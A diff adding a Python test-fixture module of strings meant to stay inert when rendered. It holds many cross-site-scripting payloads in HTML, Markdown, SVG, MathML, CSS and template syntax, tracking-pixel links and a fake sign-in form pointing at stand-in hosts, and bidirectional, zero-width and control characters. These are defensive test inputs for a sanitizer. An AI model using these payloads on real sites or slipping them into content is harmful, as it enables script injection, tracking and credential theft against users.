@@ -1,0 +1,165 @@
+"""Texts that would do something if they were ever taken for more than text.
+
+Each that runs sets `window.ran`; each that fetches asks the host `pixel.example`; forms and links
+lead to `evil.example`. None of these hosts exists.
+"""
+
+RUN = "window.ran=1"
+PIXEL = "http://pixel.example/p.gif"
+EVIL = "http://evil.example/"
+
+SCRIPTS = [
+    f"<script>{RUN}</script>",
+    f"<SCRIPT type=module>{RUN}</SCRIPT>",
+    f"<script src={EVIL}x.js></script>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script\n>{RUN}</script\n>",
+    f"</script><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"<!--><script>{RUN}</script-->",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
+    f"<template><script>{RUN}</script></template>",
+    f"`<script>{RUN}</script>`",
+    f"```html\n<script>{RUN}</script>\n```",
+    f"```\n</code></pre><script>{RUN}</script>\n```",
+    f"    <script>{RUN}</script>",
+    f"- a\n  <script>{RUN}</script>",
+    f"| a |\n| - |\n| <script>{RUN}</script> |",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{RUN}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"＜script＞{RUN}＜/script＞",
+    f"<script>/*`{RUN}`*/{RUN}//</script>",
+]
+HANDLERS = [
+    f"<img src=x onerror={RUN}>",
+    f"<img src=x onerror='{RUN}'//",
+    f'<img """><script>{RUN}</script>">',
+    f"<img src=x:x onerror\n=\n{RUN}>",
+    f"<img/src=x/onerror={RUN}>",
+    f"<body onload={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}><option>a</select>",
+    f"<textarea autofocus onfocus={RUN}></textarea>",
+    f"<details open ontoggle={RUN}><summary>a</summary></details>",
+    f"<video><source onerror={RUN}></video>",
+    f"<video src=x onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<marquee onstart={RUN}>a</marquee>",
+    f"<div onmouseover={RUN} style='position:fixed;inset:0'>a</div>",
+    f"<p onclick={RUN} onpointerdown={RUN}>press</p>",
+    f"<a href=# onclick={RUN}>press</a>",
+    f"<button onclick={RUN}>press</button>",
+    f"<div contenteditable onfocus={RUN} tabindex=0 autofocus>a</div>",
+    f"<p style=animation-name:x onanimationstart={RUN}>a</p>",
+    f"<dialog open onclose={RUN}><form method=dialog><button>a</button></form></dialog>",
+    f"<x-y oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>",
+    f'" onmouseover="{RUN}" x="',
+    f"' autofocus onfocus='{RUN}' x='",
+    f'"><img src=x onerror={RUN}>',
+]
+ADDRESSES = [
+    f"[press](javascript:{RUN})",
+    f"[press](JaVaScRiPt:{RUN})",
+    f"[press](java\tscript:{RUN})",
+    f"[press](&#106;avascript:{RUN})",
+    f"[press](javascript&colon;{RUN})",
+    f"[press](\x01javascript:{RUN})",
+    f"[press](vbscript:{RUN})",
+    f"[press](data:text/html,<script>{RUN}</script>)",
+    "[press](data:text/html;base64,PHNjcmlwdD4=)",
+    f"<javascript:{RUN}>",
+    f"<{EVIL}>",
+    f'[press]({EVIL} "title" onclick={RUN})',
+    f"[press]({EVIL})",
+    f"[x]: javascript:{RUN}\n[press][x]",
+    f"<a href='javascript:{RUN}'>press</a>",
+    f"<a href={EVIL} target=_top>press</a>",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src={EVIL}></iframe>",
+    f"<object data=javascript:{RUN}></object>",
+    f"<embed src=javascript:{RUN}>",
+    f"<base href={EVIL}>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<link rel=stylesheet href={EVIL}x.css>",
+    f"<link rel=prefetch href={PIXEL}>",
+]
+PIXELS = [
+    f"![a]({PIXEL})",
+    f"![a]({PIXEL} 'title')",
+    f"[![a]({PIXEL})]({EVIL})",
+    f"![a][p]\n\n[p]: {PIXEL}",
+    f"<img src={PIXEL} width=1 height=1>",
+    f"<img srcset='{PIXEL} 2x'>",
+    f"<picture><source srcset={PIXEL}><img></picture>",
+    f"<video poster={PIXEL}></video>",
+    f"<input type=image src={PIXEL}>",
+    f"<body background={PIXEL}>",
+    f"<table background={PIXEL}><tr><td>a</table>",
+    "![a](//pixel.example/p.gif)",
+    f"![a](data:image/svg+xml,<svg onload={RUN}>)",
+]
+FORMS = [
+    f"<form action={EVIL}><input name=password><button>Sign in</button></form>",
+    f"<form id=f></form><button form=f formaction={EVIL}>Sign in</button>",
+    "<form action=/sign-out method=post><button>Submit</button></form>",
+    f"<isindex action=javascript:{RUN} type=submit>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
+]
+STYLES = [
+    f"<style>*{{background:url({PIXEL})}}</style>",
+    f"<style>@import '{EVIL}x.css';</style>",
+    "<style>.page{display:none!important}</style>",
+    f"<div style='background:url({PIXEL})'>a</div>",
+    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>cover</div>",
+    f"<div style='width:expression({RUN})'>a</div>",
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+]
+DRAWINGS = [
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><a xlink:href=javascript:{RUN}><text y=20>press</text></a></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
+    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
+    f"<svg><image href={PIXEL}></svg>",
+    f"<math><mi//xlink:href='javascript:{RUN}'>press</mi></math>",
+    f"<math href=javascript:{RUN}>press</math>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>press</maction></math>",
+    f"$\\href{{javascript:{RUN}}}{{press}}$",
+    f"$\\text{{<img src=x onerror={RUN}>}}$",
+    f"$$\\class{{x}}{{<script>{RUN}</script>}}$$",
+    f"$<script>{RUN}</script>$",
+    f"\\(\\unicode{{x3c}}script>{RUN}\\)",
+]
+TEMPLATES = [
+    f"{{{{{RUN}}}}}",
+    f"${{{RUN}}}",
+    f"{{% {RUN} %}}",
+    f"<%= {RUN} %>",
+    f"{{@html '<img src=x onerror={RUN}>'}}",
+    f"#{{{RUN}}} [[{RUN}]] *{{{RUN}}}",
+    "__proto__ constructor.prototype toString",
+]
+HIDDEN = [
+    "\u202egnp.exe\u202c reversed",
+    "\u2066isolate\u2069 \u2067right\u2069 \u2068first\u2069",
+    "zero\u200bwidth\u200c\u200d\u2060\ufeffjoined",
+    "soft\u00adhyphen and \u00a0no-break",
+    "tags\U000e0041\U000e0042\U000e007f",
+    "nul\x00 bell\x07 escape\x1b[31mred delete\x7f",
+    "line\u2028separator\u2029paragraph",
+    "\u061carabic mark \u200e\u200f\u202a\u202b\u202d",
+    "Z̴̢͔̹a̸l̷g̶o̴ " + "\u0301" * 60,
+    "a\r\nb\rc",
+]
+
+TEXTS = [
+    *SCRIPTS, *HANDLERS, *ADDRESSES, *PIXELS, *FORMS, *STYLES, *DRAWINGS, *TEMPLATES, *HIDDEN
+]  # fmt: skip
